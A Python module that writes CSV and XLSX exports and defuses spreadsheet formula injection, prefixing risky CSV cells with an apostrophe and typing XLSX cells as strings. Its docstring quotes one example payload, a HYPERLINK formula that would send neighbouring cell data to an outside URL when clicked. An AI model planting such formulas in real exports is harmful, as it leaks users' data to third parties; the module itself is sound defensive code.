"""The one place the platform writes CSV and XLSX files, with formulas made inert.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel and LibreOffice as a formula (CSV injection, OWASP): a surname
``=HYPERLINK("http://…"&A1,"x")`` would send the neighbouring cells to a stranger when
clicked. CSV has no cell types, so such text gets OWASP's leading apostrophe; XLSX does,
so the cell is typed as a string and keeps the text exactly as typed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

from openpyxl import Workbook
from openpyxl.styles import Font

CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Row = Sequence[object]


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_bytes(header: Row, rows: Sequence[Row]) -> bytes:
    """Semicolons and a BOM: what Excel with Russian settings opens without a dialog."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    for row in (header, *rows):
        writer.writerow(["'" + value if looks_like_formula(value) else value for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(header: Row, rows: Sequence[Row], title: str) -> bytes:
    """One sheet, a bold frozen header row; text never becomes a formula."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for number, row in enumerate((header, *rows), start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=number, column=column, value=value)
            if looks_like_formula(value):
                cell.data_type = "s"
            if number == 1:
                cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
